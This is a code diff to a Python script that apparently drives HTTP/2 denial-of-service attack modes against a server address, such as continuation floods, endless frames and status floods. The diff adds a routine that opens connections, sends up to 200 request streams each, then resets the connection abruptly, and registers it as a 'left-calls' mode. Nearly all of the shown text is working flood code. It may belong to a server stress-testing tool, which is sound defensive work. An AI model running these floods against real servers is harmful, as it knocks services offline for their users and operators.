@@ -401,21 +401,33 @@ def empty_frames(address, goes):
     return many(address, goes, 500, lambda stream: (piece, 200))
 
 
-def new_connections(address, goes):
-    """Connections with a call each, that are broken as soon as they are there."""
+def broken_connections(address, goes, calls, stays):
+    """Connections that are broken with all their calls: at once, or when the server has spoken."""
     host, port = address.rsplit(":", 1)
-    call = (PREFACE + frame(HEADERS, END_HEADERS, 1, request_headers(GENERATE)) +
-            frame(DATA, END_STREAM, 1, b"\0" + struct.pack(">I", len(REQUEST)) + REQUEST))
+    block = request_headers(GENERATE)
+    body = b"\0" + struct.pack(">I", len(REQUEST)) + REQUEST
+    sent = PREFACE + b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, block) + frame(DATA, END_STREAM, 2 * i + 1, body)
+                              for i in range(calls))
     tries = 0
     while goes():
         try:
             with socket.create_connection((host, int(port)), timeout=1) as connection:
                 connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
-                connection.sendall(call)
-                tries += 1
+                connection.sendall(sent)
+                tries += calls
+                if stays:
+                    connection.recv(1 << 16)
         except OSError:
             pass
     return tries
+
+
+def new_connections(address, goes):
+    return broken_connections(address, goes, 1, False)
+
+
+def left_calls(address, goes):
+    return broken_connections(address, goes, 200, True)
 
 
 def on_sync(attack):
@@ -429,6 +441,7 @@ MODES = {"continuation-flood": continuation_flood, "header-references": header_r
          "untaken": untaken, "half-sent": half_sent, "half-sent-health": half_sent_health, "endless-frame": endless_frame, "inflated": inflated,
          "silent-connections": silent_connections, "measuring-calls": measuring_calls,
          "empty-frames": empty_frames, "new-connections": new_connections,
+         "left-calls": left_calls,
          "status-flood": status_flood, "status-untaken": lambda address, goes: status_flood(address, goes, False)}
 
 if __name__ == "__main__":
